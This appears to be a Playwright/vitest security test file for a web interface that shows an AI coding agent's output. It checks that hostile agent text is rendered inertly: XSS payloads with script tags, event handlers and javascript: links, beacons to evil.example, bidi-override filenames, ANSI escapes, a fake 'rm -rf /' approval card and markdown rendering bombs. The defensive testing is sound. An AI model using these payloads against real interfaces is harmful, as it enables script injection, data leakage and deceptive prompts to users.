import type { Locator } from 'playwright-core'
import { expect } from 'vitest'
import { testIn } from './browser.ts'
import { script, until } from '../e2e/installation.ts'

const test = testIn()

const pwn = 'globalThis.pwned=1'
/** What an agent might write to be more than text. Each carries a word by which it is found again. */
const attacks = [
  `canary-script <script>${pwn}</script><script src="https://evil.example/x.js"></script>`,
  `canary-handler <img src="https://evil.example/?beacon" onerror="${pwn}"><svg onload="${pwn}"><animate onbegin="${pwn}"/></svg>`,
  `canary-frame <iframe srcdoc="<script>parent.pwned=1</script>"></iframe><object data="https://evil.example/"></object>`,
  `canary-style <style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css><div style="position:fixed;inset:0">x</div>`,
  `canary-link [click](javascript:${pwn}) [click](data:text/html,<script>${pwn}</script>) [panic](/api/v1/panic) [home](/#login=x)`,
  'canary-image ![beacon](https://evil.example/?secret) ![local](/icon.svg) ![data](data:image/svg+xml;base64,PHN2Zy8+)',
  'canary-ansi \u001b[31mred\u001b]0;title\u0007\u001b[2J',
  'canary-bidi safe\u202Etxt.exe\u202C \u2066hidden\u2069 \u200bzero',
  'canary-card\n\n> **The agent wants to run**\n>\n> `rm -rf /`\n>\n> <button>Allow once</button> [Allow once](javascript:1)',
  `canary-deep ${'>'.repeat(3000)} end ${'['.repeat(3000)}`,
]
const input = { question: `${attacks[0]} ${attacks[6]} ${attacks[7]}?`, header: 'h', multiSelect: false }
const hostile = script(
  [
    ...attacks.map((text) => ({ text: `${text}\n\n` })),
    {
      tool_use: 'Bash',
      input: { command: 'head -c 10485760 /dev/zero | tr "\\0" x; echo; echo canary-long', description: attacks[0] },
    },
  ],
  [{ tool_use: 'Write', input: { file_path: '/workspace/a.svg', content: attacks.join('\n') } }],
  [{ tool_use: 'Write', input: { file_path: '/workspace/canary-\u202Efile<b>.txt', content: attacks.join('\n') } }],
  [
    {
      tool_use: 'Write',
      input: { file_path: '/workspace/fake.png', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${pwn}"/>` },
    },
  ],
  [
    { text: 'canary-fake ![fake](fake.png) ![up](../fake.png) ![page](/api/v1/panic.png)\n\n' },
    { tool_use: 'TodoWrite', input: { todos: [{ content: `canary-todo ${attacks[0]} ${attacks[7]}`, status: 'pending' }] } },
  ],
  [
    {
      tool_use: 'AskUserQuestion',
      input: { questions: [{ ...input, options: attacks.slice(0, 3).map((label) => ({ label, description: label })) }] },
    },
  ],
  [{ text: 'canary-end' }],
)

test('what an agent writes runs nothing, loads nothing, leads nowhere it should not and imitates nothing', async ({
  it,
  enter,
}) => {
  const { page, go, look, wrong } = await enter('phone')
  const { id } = await it.api.createSession({ body: { name: `${attacks[0]} ${attacks[7]}`, prompt: { text: hostile } } })
  await until(async () => (await it.api.listRequests()).requests[0])

  await go('/inbox')
  await page.getByText('canary-script').first().waitFor()
  // One card, with the exact words: every character that would hide or turn text is seen.
  expect(await page.getByRole('article').count()).toBe(1)
  const words = await page.getByRole('article').innerText()
  expect(words).toContain('\\u{202e}txt.exe')
  expect(words).toContain('␛[31mred')
  await look('hostile-inbox')

  await go(`/sessions/${id}`)
  await page.getByRole('button', { name: 'Answer', exact: true }).waitFor()
  const seen = new Set<string>()
  const log = page.getByRole('region', { name: 'Conversation' })
  const names = ['script', 'handler', 'frame', 'style', 'link', 'image', 'ansi', 'bidi', 'card', 'deep', 'fake', 'todo']
  for (let up = 0; seen.size < names.length && up < 60; up++) {
    const { text, foreign, links, buttons } = await log.evaluate((element) => ({
      text: (element as HTMLElement).innerText,
      foreign: element.querySelectorAll(
        'img:not([src^="/api/v1/sessions/"][src*="/picture?path=fake.png"]), iframe, object, embed, script, style, link, base, meta, [style*="fixed"]',
      ).length,
      links: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? ''),
      buttons: [...element.querySelectorAll('button')].map((button) => button.innerText),
    }))
    for (const word of names) if (text.includes(`canary-${word}`)) seen.add(word)
    // oxlint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
    expect(foreign).toBe(0)
    expect(links.filter((href) => !/^(https?:\/\/|mailto:)/.test(href))).toEqual([])
    // Only the card that the daemon asks by has buttons, and this one has none of that name.
    expect(buttons.filter((name) => /allow/i.test(name))).toEqual([])
    await log.evaluate((element) => element.scrollBy(0, -500))
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve(null))))
  }
  expect([...seen].sort()).toEqual([...names].sort())
  await look('hostile-session')

  await page.getByRole('button', { name: /^Ran head/ }).click()
  await page.getByRole('region', { name: 'Output' }).first().waitFor()

  // Names of files, what is in them, and the audit are of the agent's making too.
  await go(`/sessions/${id}?tab=files`)
  const files = page.getByRole('region', { name: 'Files' })
  await files.getByRole('button', { name: /canary-\\u\{202e\}file<b>/ }).click()
  await files.getByText('canary-bidi').first().waitFor()
  expect(await files.innerText()).not.toMatch(/[\u001b\u200b\u202a-\u202e\u2066-\u2069]/)
  await go('/audit')
  await page.getByRole('list', { name: /^Entries/ }).waitFor()
  expect(await page.locator('main').innerText()).not.toMatch(/[\u001b\u200b\u202a-\u202e\u2066-\u2069]/)
  expect(await page.locator('main').locator('img, iframe, script, style').count()).toBe(0)
  await go('/')
  await page.getByRole('searchbox').fill('canary')
  await page.locator('mark').first().waitFor()
  await look('hostile-search')

  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined()
  expect(wrong).toEqual([])
}, 180_000)

const branch = 'canary-\u202Ebranch<img/src=x>'

/** Nothing in there hides or turns text, loads anything or can be pressed to answer. */
async function isPlain(place: Locator): Promise<void> {
  // oxlint-disable-next-line no-control-regex
  expect(await place.innerText()).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/)
  expect(await place.locator('img, iframe, object, embed, script, style, link, base, meta').count()).toBe(0)
}

test('the names of branches, commits and tools, a diff and a plan are text and nothing else', async ({ it, enter }) => {
  const { page, go, look, wrong } = await enter('phone')
  const git = 'git -c user.name=a -c user.email=a@b.c'
  const commands = `git init -q && echo before > a.txt && git add -A && ${git} commit -qm '${attacks[0]}' && git checkout -qb '${branch}'`
  const { session } = await it.run(
    script(
      [{ tool_use: 'Bash', input: { command: commands } }],
      [{ tool_use: 'canary_tool<b>\u202E', input: { [attacks[0]!]: attacks[7] } }],
      [{ tool_use: 'Write', input: { file_path: '/workspace/b.txt', content: attacks.join('\n') } }],
      [{ tool_use: 'Bash', input: { command: 'cat b.txt >> a.txt' } }],
      [{ text: 'canary-end' }],
    ),
    { name: 'Names' },
  )
  await go(`/sessions/${session.id}`)
  const main = page.locator('main')
  await main.getByText('canary-end').waitFor()
  await main.getByText('canary-\\u{202e}branch<img/src=x>').first().waitFor()
  await isPlain(main)
  await go(`/sessions/${session.id}?tab=changes`)
  for (const file of ['a.txt', 'b.txt'])
    await main.getByRole('region', { name: file, exact: true }).getByRole('button').first().click()
  await main.getByText('canary-bidi').nth(1).waitFor()
  await isPlain(main)
  await look('hostile-changes')

  const { id } = await it.api.createSession({
    body: {
      name: 'Plan',
      plan: true,
      prompt: { text: script([{ tool_use: 'ExitPlanMode', input: { plan: attacks.join('\n\n') } }], [{ text: 'done' }]) },
    },
  })
  await go(`/sessions/${id}`)
  const card = page.getByRole('article').filter({ hasText: 'Plan for approval' })
  await card.getByRole('button', { name: 'Approve' }).waitFor()
  expect(await card.getByRole('button').allInnerTexts()).toEqual(['Not like this…', 'Approve', 'Not now'])
  await isPlain(card)
  await look('hostile-plan')
  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined()
  expect(wrong).toEqual([])
}, 180_000)

/** Markdown that would keep a page busy, each of less than what is shown of a text at once. */
const filled = (words: string) => words.repeat(Math.floor(59_000 / words.length))
const bombs = [
  Array.from({ length: 240 }, (_, n) => `${' '.repeat(n * 2)}- x`).join('\n'),
  `${'- '.repeat(10_000)}x`,
  `|a|b|\n|-|-|\n${filled('|a|b|\n')}`,
  `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n${`|${'a|'.repeat(2000)}\n`.repeat(10)}`,
  filled('[a](http://b.example)\n'),
  `[a]: http://b.example\n\n${filled('[a]\n')}`,
  Array.from({ length: 1900 }, (_, n) => `[a${n}]: http://b.example`).join('\n'),
  `[^1]: y\n\n${filled('x[^1]\n')}`,
  filled('a**b_c\n'),
  filled('<a <b '.repeat(500).concat('\n')),
]

test('Markdown made to be slow leaves the page quick: what is typed meanwhile is there', async ({ it, enter }) => {
  const { page, go, wrong } = await enter('phone')
  const { session } = await it.run(
    script(...bombs.slice(0, -1).map((text) => [{ text }, { tool_use: 'Bash', input: { command: 'true' } }]), [
      { text: bombs.at(-1) },
      { text: '\n\ncanary-bombs' },
    ]),
    { name: 'Bombs' },
  )
  await go(`/sessions/${session.id}`)
  const log = page.getByRole('region', { name: 'Conversation' })
  const field = page.getByRole('textbox', { name: 'Prompt' })
  for (let n = 0; n <= bombs.length; n++) {
    await log.evaluate((element, part) => element.scrollTo(0, element.scrollHeight * part), 1 - n / bombs.length)
    await field.fill('')
    await field.pressSequentially('still here')
    expect(await field.inputValue()).toBe('still here')
    // Beyond this the page would not be taken apart, but shown as it was written.
    expect(await page.evaluate(() => document.querySelectorAll('*').length)).toBeLessThan(20_000)
  }
  expect(wrong).toEqual([])
}, 180_000)

test('a script that got into the page after all could not be run', async ({ enter }) => {
  const { page } = await enter('desktop')
  const tried = await page.evaluate(() => {
    const attempt = (act: () => unknown) => {
      try {
        act()
        return 'done'
      } catch (error) {
        return (error as Error).name
      }
    }
    const inline = document.createElement('script')
    return [
      attempt(() => (document.body.innerHTML = '<img src=x onerror="globalThis.pwned=1">')),
      attempt(() => (inline.text = 'globalThis.pwned=1')),
      attempt(() => inline.setAttribute('src', 'https://evil.example/x.js')),
    ]
  })
  expect(tried).toEqual(['TypeError', 'TypeError', 'TypeError'])
  expect(await page.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined()
  const framed = await page.evaluate(() =>
    fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => 'reached',
      () => 'refused',
    ),
  )
  expect(framed).toBe('refused')
})
